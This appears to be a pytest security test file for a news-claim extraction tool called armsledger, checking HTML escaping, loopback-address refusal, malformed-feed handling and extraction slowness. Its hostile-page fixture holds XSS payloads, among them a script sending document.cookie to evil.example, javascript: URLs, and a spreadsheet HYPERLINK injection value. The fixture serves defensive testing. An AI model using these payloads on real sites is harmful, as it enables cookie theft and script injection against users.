"""Hostile input beyond malformed files: pages that try to run script in the web register,
feeds that try to reach the local network or crash the watcher, and text built to make
``extract()`` slow.

tests/serve/test_security.py covers headers and escaping for an article POSTed to the API, and
tests/watch/test_fetch.py the address checks one by one; here the same promises are checked end
to end, through the paths a hostile page really takes (a file given to ``armsledger ingest``,
a feed polled by ``watch``). Only 127.0.0.1 is ever contacted.
"""

from __future__ import annotations

import subprocess
import sys
import threading
import warnings
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from armsledger.errors import FetchError
from armsledger.ingest.fetch import Fetched, fetch
from armsledger.ingest.watch import watch
from armsledger.serve import create_app
from armsledger.serve.middleware import CSP
from armsledger.store import Register
from tests.robustness.kit import SENTENCES, cli

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # Starlette's TestClient warns about its httpx use
    from fastapi.testclient import TestClient

# -- a hostile page, from the file to the browser ---------------------------------------------

HOSTILE_TITLE = "<script>alert('title')</script>"
HOSTILE_PAGE = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<title>&lt;script&gt;alert('title')&lt;/script&gt;</title>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(3)">
<meta property="article:published_time" content="2021-06-01"></head>
<body onload="alert(4)"><article>
<p>{SENTENCES[0]} &lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>&lt;img src=x onerror="alert(2)"&gt; {SENTENCES[2]}</p>
<p>=HYPERLINK("http://evil.example","click") {SENTENCES[4]}</p>
<iframe src="javascript:alert(5)"></iframe><object data="evil.swf"></object>
</article></body></html>"""


@pytest.fixture
def hostile_register(tmp_path: Path) -> Path:
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    db = tmp_path / "hostile.db"
    result = cli("ingest", page, "--db", db, "--jobs", "1")
    assert result.code == 0 and result.summary()["claims"] >= 2, result.stderr
    return db


def test_a_hostile_page_is_stored_as_text_and_served_escaped(hostile_register: Path) -> None:
    with Register(hostile_register, readonly=True) as register:
        [article] = register.articles()
        claims = register.claims()
    # What the page *says* is kept as text (the markup it *is* is gone) ...
    assert "<script>alert(1)</script>" in article.text
    assert "document.cookie" not in article.text and "alert(4)" not in article.text
    assert {c.system for c in claims} >= {"S-400", "K2"}

    with TestClient(create_app(str(hostile_register), warm=False)) as client:
        deal = client.get("/api/deals").json()["items"][0]["id"]
        for path in (f"/articles/{article.id}", f"/deals/{deal}", "/claims", "/deals", "/"):
            response = client.get(path)
            assert response.status_code == 200, path
            assert response.headers["content-security-policy"] == CSP
            assert response.headers["x-content-type-options"] == "nosniff"
            html = response.text
            # ... and shown as text: never as markup that runs.
            for raw in ("<script>alert", "<img src=x", 'onerror="alert', "<iframe", "javascript:"):
                assert raw not in html, (path, raw)
        page = client.get(f"/articles/{article.id}").text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        api = client.get(f"/api/articles/{article.id}")
        assert api.headers["content-type"].startswith("application/json")
        assert api.json()["text"] == article.text
        csv = client.get("/api/claims", params={"format": "csv", "q": "HYPERLINK"}).text
        assert "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv
    assert "default-src 'self'" in CSP and "unsafe-inline" not in CSP


# -- feeds that point at the local network ----------------------------------------------------


class _Page(BaseHTTPRequestHandler):
    hits: list[str]  # set per server, below

    def do_GET(self) -> None:
        self.hits.append(self.path)
        body = f"<html><body><article><p>{SENTENCES[1]}</p></article></body></html>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def loopback() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []

    class Handler(_Page):
        pass

    Handler.hits = hits
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_fetch_refuses_loopback_unless_allowed(loopback: tuple[str, list[str]]) -> None:
    base, hits = loopback
    port = base.rsplit(":", 1)[1]
    for url in (f"{base}/a", f"http://localhost:{port}/a", f"http://[::ffff:127.0.0.1]:{port}/a"):
        with pytest.raises(FetchError, match="refused address"):
            fetch(url, timeout=2)
    assert hits == []  # refused before connecting
    assert SENTENCES[1].encode() in fetch(f"{base}/a", allow_private=True, timeout=5).content
    assert hits == ["/a"]


def _feed(*links: str) -> bytes:
    items = "".join(
        f"<item><title>Item {i}</title><link>{link}</link>"
        f"<description>{SENTENCES[3]}</description></item>"
        for i, link in enumerate(links)
    )
    return f"<rss version='2.0'><channel><title>F</title>{items}</channel></rss>".encode()


def test_a_feed_linking_to_loopback_pages_does_not_make_watch_fetch_them(
    loopback: tuple[str, list[str]], tmp_path: Path
) -> None:
    base, hits = loopback
    feed_url = "https://feeds.example.org/rss"

    def fetcher(url: str, *, allow_private: bool = False, **kwargs: Any) -> Fetched:
        if url == feed_url:  # the feed itself comes from "outside" (no network: made here)
            return Fetched(url, 200, "application/rss+xml", _feed(f"{base}/secret"))
        return fetch(url, allow_private=allow_private, timeout=5)

    with Register(tmp_path / "w.db") as register:
        summary = watch([feed_url], register, every_seconds=0, state_path=tmp_path / "s.json",
                        once=True, fetcher=fetcher)  # fmt: skip
    assert hits == []
    assert any("refused address" in str(e) for e in summary.errors)
    # The entry's own summary stands in for the page it could not fetch.
    assert summary.from_summary == 1 and summary.articles_new == 1


@pytest.mark.parametrize(
    "content",
    [
        b"<rss version='2.0'><channel><item><title>S</title><link>https://a</item>b</link>"
        b"</channel></rss>",
        b"<?xml version='1.0' encoding='\x97'?><rss version='2.0'><channel><item><title>T"
        b"</title></item></channel></rss>",
    ],
    ids=["link-across-item", "bad-encoding-name"],
)
def test_a_malformed_feed_does_not_end_the_watch(tmp_path: Path, content: bytes) -> None:
    # Found here: watch._poll called feedparser.parse unguarded; KeyError or UnicodeDecodeError
    # ended the watcher. Fixed meanwhile.
    def fetcher(url: str, **kwargs: Any) -> Fetched:
        return Fetched(url, 200, "application/rss+xml", content)

    with Register(tmp_path / "w.db") as register:
        summary = watch(["https://feeds.example.org/rss"], register, every_seconds=0,
                        state_path=tmp_path / "s.json", once=True, fetcher=fetcher)  # fmt: skip
    assert summary.errors


# -- text built to make extract() slow ----------------------------------------------------------

# What a slow text shows is growth: a quadratic scan takes 16 times as long on 4 times the text,
# a linear one 4 times. So each case reads the text at two sizes in one fresh interpreter and the
# test bounds the ratio of the CPU seconds, not the seconds themselves: an absolute bound failed
# CI on a slower machine (session 43) although nothing grew, and how fast extract() is belongs to
# bench/, which measures it. The CPU clock (time.process_time) is what other work on a busy machine
# disturbs least; the wall-clock cut-off only ends a runaway case.
_EXTRACT = r"""
import sys, time
from armsledger.models import Article
from armsledger.extract import extract
# The rule table compiles on the first article: one short article first, so that the figures
# are the reading of the slow text alone.
extract(Article(doc="warm", text="Russia sold S-400 systems to India.", published="2021-01-01"))
for times in sys.argv[2:]:
    text = sys.argv[1] * int(times)
    began = time.process_time()
    extract(Article(doc="slow", text=text, published="2021-01-01"))
    print(time.process_time() - began)
"""
# How many times the text grows between the two readings.
GROWTH = 4
# How much more than GROWTH the time may grow: linear reading gives about GROWTH (measured 3.6 to
# 4.3 here in session 43), a quadratic one GROWTH squared; the margin absorbs a busy machine.
# Set so that anything worse than about n^1.4 fails.
SLACK = 1.75
# Ends a case whose larger reading has not finished by then: a runaway, not a slow machine (the
# slowest case took about 25 s of the CPU here).
RUNAWAY_SECONDS = 600


def _python(code: str, *args: str, timeout: float, what: str) -> str:
    """What ``code`` prints, run in a fresh interpreter; a run over ``timeout`` s fails."""
    try:
        proc = subprocess.run(
            [sys.executable, "-c", code, *args],
            capture_output=True,
            text=True,
            timeout=timeout,
            check=True,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"extract() ran over {timeout} s on {what}")
    return proc.stdout


def _extract_seconds(unit: str, times: int) -> tuple[float, float]:
    """CPU seconds extract() takes on `unit` repeated `times` and GROWTH times as often."""
    out = _python(
        _EXTRACT,
        unit,
        str(times),
        str(times * GROWTH),
        timeout=RUNAWAY_SECONDS,
        what=f"{unit!r} * {times * GROWTH}",
    )
    small, large = (float(line) for line in out.split())
    return small, large


# Both were minutes long when bench/fuzz.py's author found them (quadratic overlap checks in
# mentions.scan; a worse-than-cubic party scan in roles.assign_roles for one long sentence);
# fixed meanwhile (sentences are cut at MAX_SENTENCE_CHARS), kept as regression tests.
@pytest.mark.slow
@pytest.mark.parametrize(
    ("unit", "times"),
    [
        # 50 KB then 200 KB of short sentences, each naming a system and two states
        ("Russia delivered S-400 systems to India. ", 1250),
        # 4 KB then 16 KB without a full stop or a newline: one long sentence
        ("Russia delivered S-400 systems to India ", 100),
        # 7 KB then 28 KB of one sentence naming many systems and parties
        ("Russia sold S-400, Su-35 and F-16 jets to India, China, Turkey and Egypt ", 100),
    ],
    ids=["short-sentences", "one-sentence", "one-sentence-of-lists"],
)
def test_extract_time_grows_linearly_on_text_built_to_be_slow(unit: str, times: int) -> None:
    small, large = _extract_seconds(unit, times)
    assert large < small * GROWTH * SLACK, (small, large)


# A mark that ends a sentence and belongs to none (the pipe of "Экономика | Автор: ...") once
# sent the Russian speaker scan of the sentences before a claim round the same offset for ever
# (session 50: a page of our written set never finished). A wall-clock cut-off, far above the
# few seconds the Russian dictionary takes to load, tells a finished run from a runaway.
_PIPE_PAGE = r"""
from armsledger.models import Article
from armsledger.extract import extract
text = ("Экономика | Автор: Иван Петров\n\nВчера министр заявил журналистам о бюджете.\n\n"
        "Россия поставила Су-35 в Иран.")
claims = extract(Article(doc="pipe", text=text, published=None))
print(sorted((c.system, c.supplier, c.recipient) for c in claims))
"""
PIPE_PAGE_SECONDS = 120


def test_a_russian_byline_with_a_pipe_does_not_stall_extract() -> None:
    out = _python(_PIPE_PAGE, timeout=PIPE_PAGE_SECONDS, what="a page of three sentences")
    assert out.strip() == "[('Su-35', 'RUS', 'IRN')]"
